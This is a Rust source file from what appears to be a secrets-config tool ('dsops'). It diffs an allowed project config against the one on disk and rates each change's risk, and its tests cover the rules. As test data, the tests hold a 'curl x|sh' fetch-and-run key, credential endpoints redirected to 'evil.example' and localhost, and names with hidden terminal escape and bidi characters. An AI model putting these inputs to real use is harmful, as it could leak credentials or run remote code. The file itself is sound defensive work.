//! What changed between the project config a user allowed and the one on
//! disk, compared as parsed configs (not text) and classified by risk:
//!
//! - **high**: anything that can steer credentials, code or network: a new
//!   or changed `exec` command; which credentials are used or where they go
//!   (`credentials_from`, `profile`, `account_id`, `role_name`, `role_arn`,
//!   the static key fields, `sso_start_url`, `sso_region`, `sso_session`,
//!   `endpoint_url`, a store's `region`); a store's type; a new store of any
//!   type; `defaultEnv`; a variable named in `steering::STEERING` (`AWS_*`, `PATH`,
//!   proxies, CA bundles, ...) added or changed, whatever sets it, and any
//!   change to a store such a variable reads; a key of an exec store whose
//!   command runs an interpreter's code (`sh -c`, `python -c`, ...: the key
//!   is code, so a new key "runs different code");
//! - **medium**: which secrets are read (`key`, `field`, `version_*` of a
//!   reference; a variable newly taken from a store; a file store's `path`);
//! - **low**: literal values of other variables, `optional`, a removed
//!   variable, env set or store, and store fields that only shape how a
//!   value is fetched (`timeout`, `use_device_code`).
//!
//! Each store type declares the risk of each of its fields in its schema
//! (`config::schema`, implemented in `src/stores/`); a field a type does not
//! declare counts as medium.
//!
//! Each change names the store or env set and the field, with old → new for
//! values that are not secret; a new store is shown with every field. Never
//! shown: static key fields, and literal values of variables (or
//! literal-store keys) whose names look secret (`*KEY*`, `*SECRET*`,
//! `*TOKEN*`, `*PASSWORD*`, any case): those say "changed". Comments, white
//! space, key order and quoting are not changes: an empty diff means the
//! parsed configs are equal. Every line is escaped for the terminal
//! (`text::shown`): what is shown is what is in the file.
//!
//! Longer than most files here because of its tests (about 250 lines):
//! every risk class is shown by an edit of one realistic config. The list
//! of steering variables is `steering.rs`.

use super::steering::steers;
use super::{Config, EnvSet, Reference, Source, Store, Var};
use std::collections::BTreeMap;

#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Risk {
    Low,
    Medium,
    High,
}

impl Risk {
    pub fn name(self) -> &'static str {
        match self {
            Risk::Low => "low",
            Risk::Medium => "medium",
            Risk::High => "high",
        }
    }
}

/// One difference.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Change {
    pub risk: Risk,
    /// A few words for the one-line summary: `+exec store 'op'`.
    pub short: String,
    /// The full line for `dsops allow --show`.
    pub long: String,
}

/// The risk of setting or changing variable `name` to a value of `risk`.
pub fn var_risk(name: &str, risk: Risk) -> Risk {
    if steers(name) { Risk::High } else { risk }
}

/// Does a variable's (or literal key's) name look like it holds a secret?
pub fn secret_name(name: &str) -> bool {
    let up = name.to_ascii_uppercase();
    ["KEY", "SECRET", "TOKEN", "PASSWORD"]
        .iter()
        .any(|w| up.contains(w))
}

/// What a change to `field` of `store` means, and whether its value may be
/// shown: the store type's schema says; a field it does not know is medium.
fn field_of(store: &Store, field: &str) -> (Risk, bool) {
    store
        .kind
        .field(field)
        .map(|f| (f.risk, f.secret))
        .unwrap_or((Risk::Medium, false))
}

fn shown(v: Option<&str>) -> String {
    match v {
        None => "(unset)".to_string(),
        Some(s) => format!("{s:?}"),
    }
}

fn change(risk: Risk, short: String, long: String) -> Change {
    Change { risk, short, long }
}

/// Why a variable's change is high although its source alone is not.
const STEERS: &str = " (can steer credentials, code or network)";

/// What the diff needs to know of a config besides the two layers: the
/// stores that variables in `steering::STEERING` read.
struct Context {
    /// Stores read by a steering variable, in either config.
    steering_stores: std::collections::BTreeSet<String>,
}

impl Context {
    fn of(old: &Config, new: &Config) -> Context {
        let steering_stores = old
            .envs
            .iter()
            .chain(&new.envs)
            .flat_map(|e| &e.vars)
            .filter(|v| steers(&v.name))
            .filter_map(|v| match &v.source {
                Source::From(r) => Some(r.store.clone()),
                Source::Literal(_) => None,
            })
            .collect();
        Context { steering_stores }
    }
}

/// Every difference from `old` (allowed) to `new` (on disk), highest risk
/// first, then in config order; escaped for the terminal.
pub fn diff(old: &Config, new: &Config) -> Vec<Change> {
    let cx = Context::of(old, new);
    let mut out = vec![];
    stores(&cx, old, new, &mut out);
    envs(old, new, &mut out);
    if old.default_env != new.default_env {
        // Which set loads is which variables are exported.
        out.push(change(
            Risk::High,
            "defaultEnv".into(),
            format!(
                "defaultEnv: {} → {}",
                shown(old.default_env.as_deref()),
                shown(new.default_env.as_deref())
            ),
        ));
    }
    // Stable: config order within each risk.
    out.sort_by_key(|c| std::cmp::Reverse(c.risk));
    // Names and values come from the project file: nothing in them may act
    // on the terminal or hide.
    for c in &mut out {
        c.short = crate::text::shown(&c.short).into_owned();
        c.long = crate::text::shown(&c.long).into_owned();
    }
    out
}

fn stores(cx: &Context, old: &Config, new: &Config, out: &mut Vec<Change>) {
    for (name, s) in &new.stores {
        match old.stores.get(name) {
            None => out.push(new_store(s)),
            Some(o) => {
                let mut changes = vec![];
                store_changes(o, s, &mut changes);
                if cx.steering_stores.contains(name) {
                    for c in &mut changes {
                        if c.risk < Risk::High {
                            c.risk = Risk::High;
                            c.long.push_str(
                                " (a variable it sets can steer credentials, code or network)",
                            );
                        }
                    }
                }
                out.extend(changes);
            }
        }
    }
    for name in old.stores.keys().filter(|n| !new.stores.contains_key(*n)) {
        out.push(change(
            Risk::Low,
            format!("-store '{name}'"),
            format!("secretStores.{name}: removed"),
        ));
    }
}

/// A new store, with every field it sets (secret ones as "set").
fn new_store(s: &Store) -> Change {
    let kind = s.kind.name();
    // What it runs, when a list says (an exec store's command).
    let what: String = s
        .lists()
        .iter()
        .map(|(f, items)| format!(" ({f}: {})", command_text(items)))
        .collect();
    let mut fields: Vec<String> = vec![];
    for (f, v) in s.fields() {
        let (_, secret) = field_of(s, f);
        fields.push(if secret {
            format!("{f}: set (not shown)")
        } else {
            format!("{f}: {v:?}")
        });
    }
    for (f, items) in s.lists() {
        fields.push(format!("{f}: [{}]", command_text(items)));
    }
    for (f, entries) in s.maps() {
        let entries: Vec<String> = entries
            .iter()
            .map(|(k, v)| format!("{k}: {}", literal_text(k, v)))
            .collect();
        fields.push(format!("{f}: {{{}}}", entries.join(", ")));
    }
    change(
        Risk::High,
        format!("+{kind} store '{}'{what}", s.name),
        format!(
            "secretStores.{}: new {kind} store: {}",
            s.name,
            fields.join(", ")
        ),
    )
}

fn command_text(cmd: &[String]) -> String {
    crate::text::argv(cmd)
}

/// The union of two maps' keys, in order.
fn keys<'a, V>(a: &'a BTreeMap<String, V>, b: &'a BTreeMap<String, V>) -> Vec<&'a String> {
    let mut k: Vec<&String> = a.keys().chain(b.keys()).collect();
    k.sort();
    k.dedup();
    k
}

fn store_changes(o: &Store, s: &Store, out: &mut Vec<Change>) {
    let name = &s.name;
    if o.kind.name() != s.kind.name() {
        out.push(change(
            Risk::High,
            format!("store '{name}' type {} → {}", o.kind.name(), s.kind.name()),
            format!(
                "secretStores.{name}.type: {} → {}",
                o.kind.name(),
                s.kind.name()
            ),
        ));
    }
    for f in keys(o.fields(), s.fields()) {
        let (a, b) = (o.raw(f), s.raw(f));
        if a == b {
            continue;
        }
        let (risk, secret) = field_of(s, f);
        let values = if secret {
            "changed".to_string()
        } else {
            format!("{} → {}", shown(a), shown(b))
        };
        out.push(change(
            risk,
            format!("store '{name}' {f}"),
            format!("secretStores.{name}.{f}: {values}"),
        ));
    }
    for f in keys(o.lists(), s.lists()) {
        let (a, b) = (o.list(f), s.list(f));
        if a == b {
            continue;
        }
        let (risk, _) = field_of(s, f);
        out.push(change(
            risk,
            format!("{} store '{name}' {f}", s.kind.name()),
            format!(
                "secretStores.{name}.{f}: [{}] → [{}]",
                command_text(a),
                command_text(b)
            ),
        ));
    }
    for f in keys(o.maps(), s.maps()) {
        let (risk, _) = field_of(s, f);
        let (a, b) = (o.map(f), s.map(f));
        let mut entry_keys: Vec<&String> = a.iter().chain(b.iter()).map(|(k, _)| k).collect();
        entry_keys.sort();
        entry_keys.dedup();
        for k in entry_keys {
            let get =
                |m: &[(String, String)]| m.iter().find(|(x, _)| x == k).map(|(_, v)| v.clone());
            let (va, vb) = (get(a), get(b));
            if va == vb {
                continue;
            }
            let values = if secret_name(k) {
                "changed".to_string()
            } else {
                format!("{} → {}", shown(va.as_deref()), shown(vb.as_deref()))
            };
            out.push(change(
                risk,
                format!("store '{name}' {f} {k}"),
                format!("secretStores.{name}.{f}.{k}: {values}"),
            ));
        }
    }
}

fn envs(old: &Config, new: &Config, out: &mut Vec<Change>) {
    let empty = |name: &str| EnvSet {
        name: name.to_string(),
        origin: Default::default(),
        vars: vec![],
    };
    for e in &new.envs {
        let o = old.envs.iter().find(|x| x.name == e.name);
        if o.is_none() {
            out.push(change(
                Risk::Low,
                format!("+env set '{}'", e.name),
                format!("envs.{}: new env set", e.name),
            ));
        }
        let o = o.cloned().unwrap_or_else(|| empty(&e.name));
        vars(new, &o, e, out);
    }
    for o in old
        .envs
        .iter()
        .filter(|o| !new.envs.iter().any(|e| e.name == o.name))
    {
        out.push(change(
            Risk::Low,
            format!("-env set '{}'", o.name),
            format!("envs.{}: removed", o.name),
        ));
    }
}

fn reference_text(r: &Reference) -> String {
    let mut s = format!("store '{}' key {:?}", r.store, r.key);
    if let Some(f) = &r.field {
        s.push_str(&format!(" field {f:?}"));
    }
    if let Some(v) = &r.version_stage {
        s.push_str(&format!(" version_stage {v:?}"));
    }
    if let Some(v) = &r.version_id {
        s.push_str(&format!(" version_id {v:?}"));
    }
    s
}

fn literal_text(name: &str, v: &str) -> String {
    if secret_name(name) {
        "a literal (not shown)".to_string()
    } else {
        format!("{v:?}")
    }
}

/// Does `r` read from a store that runs its key as code (an exec store
/// whose command is `sh -c`, `python -c`, ...)?
fn runs_code(cfg: &Config, r: &Reference) -> bool {
    cfg.stores
        .get(&r.store)
        .is_some_and(|s| s.kind.key_is_code(s))
}

const RUNS_CODE: &str = " (the store runs an interpreter: a key can change the code that runs)";

/// The risk of variable `name` taking its value from `source`: `base`,
/// or high (and why) when the name steers or the key is code.
fn rated(cfg: &Config, name: &str, source: &Source, base: Risk) -> (Risk, &'static str) {
    match source {
        Source::From(r) if runs_code(cfg, r) => (Risk::High, RUNS_CODE),
        _ if steers(name) => (var_risk(name, base), STEERS),
        _ => (base, ""),
    }
}

fn vars(cfg: &Config, o: &EnvSet, e: &EnvSet, out: &mut Vec<Change>) {
    let set = &e.name;
    for v in &e.vars {
        let place = format!("envs.{set}.{}", v.name);
        let Some(ov) = o.vars.iter().find(|x| x.name == v.name) else {
            out.push(new_var(cfg, set, v));
            continue;
        };
        let rate = |base: Risk| rated(cfg, &v.name, &v.source, base);
        match (&ov.source, &v.source) {
            (a, b) if a == b => {}
            (Source::Literal(a), Source::Literal(b)) => {
                let values = if secret_name(&v.name) {
                    "changed".to_string()
                } else {
                    format!("{a:?} → {b:?}")
                };
                let (risk, why) = rate(Risk::Low);
                out.push(change(
                    risk,
                    format!("{} value", v.name),
                    format!("{place}: {values}{why}"),
                ));
            }
            (Source::Literal(_), Source::From(r)) => {
                let (risk, why) = rate(Risk::Medium);
                out.push(change(
                    risk,
                    format!("{} now from '{}'", v.name, r.store),
                    format!("{place}: a literal → {}{why}", reference_text(r)),
                ))
            }
            (Source::From(r), Source::Literal(b)) => {
                let (risk, why) = rate(Risk::Low);
                out.push(change(
                    risk,
                    format!("{} now a literal", v.name),
                    format!(
                        "{place}: {} → {}{why}",
                        reference_text(r),
                        literal_text(&v.name, b)
                    ),
                ))
            }
            (Source::From(a), Source::From(b)) => {
                let (risk, why) = rate(Risk::Medium);
                out.push(change(
                    risk,
                    if a.store != b.store {
                        format!("{} now from '{}'", v.name, b.store)
                    } else if why == RUNS_CODE {
                        format!("{} runs different code", v.name)
                    } else {
                        format!("{} reads another secret", v.name)
                    },
                    format!(
                        "{place}: {} → {}{why}",
                        reference_text(a),
                        reference_text(b)
                    ),
                ))
            }
        }
        if ov.optional != v.optional {
            out.push(change(
                Risk::Low,
                format!("{} optional", v.name),
                format!("{place}.optional: {} → {}", ov.optional, v.optional),
            ));
        }
    }
    for ov in o
        .vars
        .iter()
        .filter(|x| !e.vars.iter().any(|v| v.name == x.name))
    {
        out.push(change(
            Risk::Low,
            format!("-{}", ov.name),
            format!("envs.{set}.{}: removed", ov.name),
        ));
    }
}

fn new_var(cfg: &Config, set: &str, v: &Var) -> Change {
    let place = format!("envs.{set}.{}", v.name);
    match &v.source {
        Source::Literal(b) => {
            let (risk, why) = rated(cfg, &v.name, &v.source, Risk::Low);
            change(
                risk,
                format!("+{}", v.name),
                format!("{place}: new, {}{why}", literal_text(&v.name, b)),
            )
        }
        Source::From(r) => {
            let (risk, why) = rated(cfg, &v.name, &v.source, Risk::Medium);
            change(
                risk,
                format!("{} now from '{}'", v.name, r.store),
                format!("{place}: new, from {}{why}", reference_text(r)),
            )
        }
    }
}

/// The highest risk of a diff.
pub fn highest(changes: &[Change]) -> Option<Risk> {
    changes.iter().map(|c| c.risk).max()
}

/// One line: `high: +exec store 'op'; medium: DB_URL now from 'secrets'`,
/// at most three items per risk.
pub fn summary(changes: &[Change]) -> String {
    let mut parts = vec![];
    for risk in [Risk::High, Risk::Medium, Risk::Low] {
        let items: Vec<&str> = changes
            .iter()
            .filter(|c| c.risk == risk)
            .map(|c| c.short.as_str())
            .collect();
        if items.is_empty() {
            continue;
        }
        let mut text = items[..items.len().min(3)].join(", ");
        if items.len() > 3 {
            text.push_str(&format!(" and {} more", items.len() - 3));
        }
        parts.push(format!("{}: {text}", risk.name()));
    }
    parts.join("; ")
}

#[cfg(test)]
mod tests {
    use super::super::steering::STEERING;
    use super::*;
    use std::path::Path;

    fn parse(text: &str) -> Config {
        super::super::parse_str(Path::new("/p/.dsops.yaml"), text).unwrap()
    }

    const BASE: &str = r#"
version: 1
defaultEnv: dev
secretStores:
  sso:
    type: aws.sso
    sso_start_url: https://x.awsapps.com/start
    sso_region: us-east-1
    account_id: "111111111111"
    role_name: Dev
  secrets:
    type: aws.secretsmanager
    region: us-east-1
    credentials_from: sso
  plain:
    type: literal
    values: {LOG: debug, API_KEY: k1}
envs:
  dev:
    DB_URL: {from: {store: secrets, key: app/db}}
    MODE: fast
    API_TOKEN: t1
"#;

    #[test]
    fn reformatting_is_no_change() {
        let other = r#"
# a comment
version: "1"
envs:
  dev: {API_TOKEN: "t1", MODE: 'fast', DB_URL: {from: {key: app/db, store: secrets}}}
secretStores:
  plain: {type: literal, values: {API_KEY: "k1", LOG: debug}}
  secrets: {credentials_from: sso, region: us-east-1, type: aws.secretsmanager}
  sso: {type: aws.sso, role_name: Dev, account_id: "111111111111", sso_region: us-east-1, sso_start_url: "https://x.awsapps.com/start"}
defaultEnv: dev
"#;
        assert_eq!(diff(&parse(BASE), &parse(other)), vec![]);
    }

    #[test]
    fn risks() {
        let base = parse(BASE);
        let with = |from: &str, to: &str| {
            assert!(BASE.contains(from), "{from}");
            diff(&base, &parse(&BASE.replace(from, to)))
        };
        let d = with(
            "  plain:\n",
            "  op:\n    type: exec\n    command: [op, read]\n  plain:\n",
        );
        assert_eq!(highest(&d), Some(Risk::High));
        assert!(d[0].short.contains("+exec store 'op'") && d[0].short.contains("op read"));
        let d = with("\"111111111111\"", "\"222222222222\"");
        assert_eq!(highest(&d), Some(Risk::High));
        assert!(d[0].long.contains("111111111111") && d[0].long.contains("222222222222"));
        let d = with(
            "credentials_from: sso",
            "credentials_from: sso\n    endpoint_url: https://evil.example",
        );
        assert_eq!(highest(&d), Some(Risk::High));
        let d = with("key: app/db", "key: app/other");
        assert_eq!(highest(&d), Some(Risk::Medium));
        let d = with("MODE: fast", "MODE: slow");
        assert_eq!(highest(&d), Some(Risk::Low));
        assert!(d[0].long.contains("\"fast\" → \"slow\""), "{d:?}");
        let d = with("MODE: fast", "MODE: {from: {store: plain, key: LOG}}");
        assert_eq!(highest(&d), Some(Risk::Medium));
        assert_eq!(summary(&d), "medium: MODE now from 'plain'");
        let d = with("defaultEnv: dev", "defaultEnv: prod\n");
        assert_eq!(highest(&d), Some(Risk::High));
        let d = with("    MODE: fast\n", "");
        assert_eq!(d[0].short, "-MODE");
        assert_eq!(d[0].risk, Risk::Low);
    }

    /// Every entry of the list is high, added or changed, as a literal or
    /// from a store; a literal-store value read by one is high too.
    #[test]
    fn steering_variables_are_high_whatever_sets_them() {
        let base = parse(BASE);
        for pattern in STEERING {
            let name = pattern.replace('*', "X");
            assert!(steers(&name), "{name}");
            assert!(steers(&name.to_ascii_lowercase()), "{name}");
            let added = BASE.replace(
                "    MODE: fast\n",
                &format!("    MODE: fast\n    {name}: v1\n"),
            );
            let d = diff(&base, &parse(&added));
            assert_eq!(highest(&d), Some(Risk::High), "{name}: {d:?}");
            let changed = diff(&parse(&added), &parse(&added.replace(": v1", ": v2")));
            assert_eq!(highest(&changed), Some(Risk::High), "{name}: {changed:?}");
            let from = added.replace(": v1", ": {from: {store: plain, key: LOG}}");
            let d = diff(&base, &parse(&from));
            assert_eq!(highest(&d), Some(Risk::High), "{name}: {d:?}");
            // The store it reads changes: high, though a literal store's
            // values are low elsewhere.
            let d = diff(
                &parse(&from),
                &parse(&from.replace("LOG: debug", "LOG: trace")),
            );
            assert_eq!(highest(&d), Some(Risk::High), "{name}: {d:?}");
        }
        for name in ["MODE", "DATABASE_URL", "LOG_LEVEL", "FEATURE_FLAG"] {
            assert!(!steers(name), "{name}");
        }
        let d = diff(
            &base,
            &parse(&BASE.replace(
                "MODE: fast",
                "MODE: fast\n    AWS_ENDPOINT_URL_SSO: http://127.0.0.1:9",
            )),
        );
        assert_eq!(highest(&d), Some(Risk::High));
        assert!(d[0].long.contains("can steer credentials"), "{d:?}");
        // Removing one gives the user's own value back.
        let d = diff(&base, &parse(&BASE.replace("    MODE: fast\n", "")));
        assert_eq!(highest(&d), Some(Risk::Low));
    }

    /// `${VAR}` in a literal takes the risk of the variable it sets: a PATH
    /// that appends to the user's own stays high, a plain one stays low.
    #[test]
    fn expanded_literals_are_rated_by_the_name_they_set() {
        let base = parse(BASE);
        let with =
            |line: &str| BASE.replace("    MODE: fast\n", &format!("    MODE: fast\n    {line}\n"));
        let d = diff(&base, &parse(&with("PATH: \"${PATH}:/opt/x\"")));
        assert_eq!(highest(&d), Some(Risk::High), "{d:?}");
        let d = diff(&base, &parse(&with("GREETING: \"hi ${USER}\"")));
        assert_eq!(highest(&d), Some(Risk::Low), "{d:?}");
    }

    /// An exec store that runs its key as code: a new or changed key is
    /// high ("runs different code"); a script's argument stays medium.
    #[test]
    fn keys_of_a_code_running_store_are_high() {
        let with = |command: &str, key: &str| {
            BASE.replace(
                "  plain:\n",
                &format!("  run:\n    type: exec\n    command: {command}\n  plain:\n"),
            )
            .replace(
                "MODE: fast",
                &format!("MODE: {{from: {{store: run, key: '{key}'}}}}"),
            )
        };
        for command in [
            "[sh, -c]",
            "[/usr/bin/env, bash, -ec]",
            "[python3, -c]",
            "[node, --eval]",
            "[perl, -e]",
            "[bash]",
        ] {
            let d = diff(
                &parse(&with(command, "echo a")),
                &parse(&with(command, "curl x|sh")),
            );
            assert_eq!(highest(&d), Some(Risk::High), "{command}: {d:?}");
            assert!(d[0].short.contains("runs different code"), "{d:?}");
        }
        for command in ["[op, read]", "[python3, tools/get.py]"] {
            let d = diff(&parse(&with(command, "a")), &parse(&with(command, "b")));
            assert_eq!(highest(&d), Some(Risk::Medium), "{command}: {d:?}");
        }
    }

    /// A new store is shown with every field; terminal controls in names
    /// and commands are escaped.
    #[test]
    fn new_stores_show_every_field_escaped() {
        let base = parse(BASE);
        let d = diff(
            &base,
            &parse(&BASE.replace(
                "  plain:\n",
                "  f:\n    type: file\n    path: ./secrets.env\n  s2:\n    type: aws.sso\n    sso_start_url: https://evil.example/start\n    sso_region: eu-west-1\n    account_id: \"999999999999\"\n    role_name: Admin\n  \"op\\e[8m\":\n    type: exec\n    command: [\"op\\e[8m\", \"read\\u202e\"]\n  plain:\n",
            )),
        );
        let text: String = d
            .iter()
            .map(|c| format!("{}\n{}\n", c.short, c.long))
            .collect();
        for want in [
            "./secrets.env",
            "https://evil.example/start",
            "999999999999",
            "Admin",
            "eu-west-1",
            "\\e[8m",
            "\\u{202e}",
        ] {
            assert!(text.contains(want), "{want}: {text}");
        }
        for c in &d {
            assert!(
                !(c.short.clone() + &c.long).chars().any(crate::text::hidden),
                "{c:?}"
            );
        }
    }

    #[test]
    fn secret_looking_values_are_never_shown() {
        let base = parse(BASE);
        let d = diff(
            &base,
            &parse(&BASE.replace("API_TOKEN: t1", "API_TOKEN: hunter2-new")),
        );
        let d2 = diff(
            &base,
            &parse(&BASE.replace("API_KEY: k1", "API_KEY: k2-new")),
        );
        let text = format!("{d:?}{d2:?}{}", summary(&d));
        assert!(!text.contains("t1") && !text.contains("hunter2"), "{text}");
        assert!(!text.contains("k2-new"), "{text}");
        assert!(d[0].long.contains("changed"), "{d:?}");
    }
}
